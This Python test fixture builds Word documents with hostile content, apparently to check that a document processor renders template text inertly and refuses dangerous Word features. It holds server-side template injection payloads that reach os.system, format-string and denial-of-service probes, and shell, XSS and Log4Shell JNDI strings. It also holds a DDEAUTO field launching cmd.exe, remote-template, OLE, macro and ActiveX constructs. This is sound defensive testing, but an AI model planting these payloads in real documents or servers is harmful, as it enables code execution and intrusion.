"""Word templates that would run, fetch or unfold something if anything in them were obeyed."""

from __future__ import annotations

from tests.hostile.packages import body, document, links, packed

CODE = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
LOOP = "{% for x in range(10**9) %}x{% endfor %}"
IMPORT = "{{ cycler.__init__.__globals__.os.system('touch CANARY') }}"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def p(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def field(*pieces: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def main(inside: str, **others: str | bytes) -> bytes:
    return packed(document(word__document_xml=body(inside), **others))


def _with(parts: dict[str, str | bytes]) -> bytes:
    return packed({**document(), **parts})


# What is text stays text: these may be used, and print as they stand.
TEXTS: dict[str, bytes] = {
    "Jinja expression in the body": main(p(CODE)),
    "Jinja loop in the body": main(p(LOOP)),
    "Jinja import in the header": packed(document(word__header1_xml=f'<w:hdr xmlns:w="{W}">{p(IMPORT)}</w:hdr>')),
    "Jinja expression in the footer": packed(document(word__footer1_xml=f'<w:ftr xmlns:w="{W}">{p(CODE)}</w:ftr>')),
    "Jinja expression in the title": packed(document(docProps__core_xml=f"<coreProperties><title>{CODE}</title></coreProperties>")),
    "Python format that reaches out": main(p("{姓名.__class__.__init__.__globals__}")),
    "format with index": main(p("{0[__class__]}") + p("{姓名!r:>1000000000}")),
    "shell and script words": main(p("$(touch CANARY) `id` &lt;script&gt;alert(1)&lt;/script&gt; ${jndi:ldap://x.invalid/a}")),
}  # fmt: skip

# What would be obeyed by Word is refused with a sentence.
REFUSED: dict[str, bytes] = {
    "DDEAUTO field": main(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe", " /k calc")),
    "DDE field split over runs": main(field("D", "D", "E", " Excel x")),
    "INCLUDEPICTURE from the net": main(field('INCLUDEPICTURE "http://x.invalid/a.png" \\d')),
    "INCLUDETEXT of a local file": main(field('INCLUDETEXT "C:\\\\Users\\\\x.docx"')),
    "simple field with a macro button": main('<w:p><w:fldSimple w:instr="MACROBUTTON AutoOpen x"/></w:p>'),
    "field inside a field": main(field("PAGE </w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>LINK Excel.Sheet x</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>')),
    "altChunk": main('<w:altChunk r:id="rId1"/>', word___rels__document_xml_rels=links("aFChunk|a.html|")),
    "OLE object": main('<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="rId1"/></w:object></w:r></w:p>'),
    "embedded package": _with({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "macros": _with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "macro content type": _with({"[Content_Types].xml": '<Types><Override PartName="/word/document.xml" ContentType='
        '"application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'}),
    "remote template": _with({"word/_rels/settings.xml.rels": links("attachedTemplate|https://x.invalid/t.dotm|External")}),
    "remote template on a share": _with({"word/_rels/settings.xml.rels": links("attachedTemplate|\\\\x.invalid\\t.dotm|External")}),
    "attachedTemplate element": _with({"word/settings.xml": f'<w:settings xmlns:w="{W}"><w:attachedTemplate/></w:settings>'}),
    "mail merge": _with({"word/settings.xml": f'<w:settings xmlns:w="{W}"><w:mailMerge><w:query w:val="SELECT 1"/></w:mailMerge></w:settings>'}),
    "mail merge source": _with({"word/_rels/settings.xml.rels": links("mailMergeSource|file:///c:/x.mdb|External")}),
    "picture on the net": _with({"word/_rels/document.xml.rels": links("image|http://x.invalid/a.png|External")}),
    "link outside": _with({"word/_rels/document.xml.rels": links("hyperlink|http://x.invalid/|External")}),
    "frame of a web page": _with({"word/_rels/webSettings.xml.rels": links("frame|http://x.invalid/|External")}),
    "sub document": main('<w:subDoc r:id="rId1"/>', word___rels__document_xml_rels=links("subDocument|a.docx|External")),
    "ActiveX control": main('<w:p><w:r><w:control r:id="rId1"/></w:r></w:p>'),
    "ActiveX part": _with({"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='http://x'/>"}),
    "VML picture with a script": main('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="javascript:alert(1)"/></w:pict></w:r></w:p>'),
    "customUI": _with({"customUI/customUI.xml": "<customUI/>"}),
}  # fmt: skip
